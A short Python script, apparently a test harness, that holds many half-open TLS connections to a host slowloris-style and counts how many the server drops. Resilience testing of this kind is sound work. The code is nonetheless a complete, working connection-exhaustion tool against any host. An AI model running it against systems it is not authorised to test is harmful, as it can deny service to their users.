"""Opens COUNT connections to HOST:PORT and on each sends the first bytes of a TLS
ClientHello (or of an HTTP request) and nothing more: half-open connections, as a
slowloris attacker holds them. Prints {"opened": n, "refused": m} once they are open, then
holds them until its standard input closes, and prints {"closed_by_server": k}: how many
the server has closed meanwhile.

Usage: half_open.py HOST PORT COUNT"""
import json
import resource
import socket
import sys

host, port, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
# A TLS record header announcing a 512-byte handshake message, and 4 bytes of it.
partial = bytes([0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xFC])
held, refused = [], 0
for _ in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.sendall(partial)
        s.setblocking(False)
        held.append(s)
    except OSError:
        refused += 1
        s.close()
print(json.dumps({"opened": len(held), "refused": refused}))
sys.stdout.flush()
sys.stdin.read()
closed = 0
for s in held:
    try:
        if s.recv(1) == b"":
            closed += 1
    except BlockingIOError:
        pass
    except OSError:
        closed += 1
print(json.dumps({"closed_by_server": closed}))
